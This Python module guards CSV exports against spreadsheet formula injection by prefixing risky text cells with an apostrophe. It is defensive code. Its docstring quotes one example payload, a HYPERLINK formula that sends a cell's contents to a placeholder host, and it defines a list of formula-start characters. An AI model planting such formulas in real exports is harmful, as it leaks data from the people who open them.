# Owns the one rule every CSV writer applies to its cells: no cell a spreadsheet would run as a
# formula.
"""CSV cells that a spreadsheet shows as text, never runs (OWASP's CSV injection rule).

Page titles, URLs, bank sources and file names come from outside, and a cell such as
`=HYPERLINK("http://x/?"&A1)` would run when an analyst opens the export in a spreadsheet. A
text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a
leading `'`, so it shows as the text it is. Numbers stay numbers: an `int` or `float`, or a
text cell that is a plain number (`-3`, `+1.5`, `1e-3`), is written as it is.

    writer.writerow(safe_row(values))
    dict_writer.writerow(safe_mapping(row))

`unquote_cell` reads such a cell back (for a command that reads its own CSV output again).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: '' for None, numbers unchanged, and text that a
    spreadsheet would run as a formula prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in values]


def safe_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every value of a `csv.DictWriter` row through `safe_cell`."""
    return {k: safe_cell(v) for k, v in row.items()}


def unquote_cell(text: str) -> str:
    """A cell `safe_cell` wrote, as it was: the leading `'` before a formula start removed."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
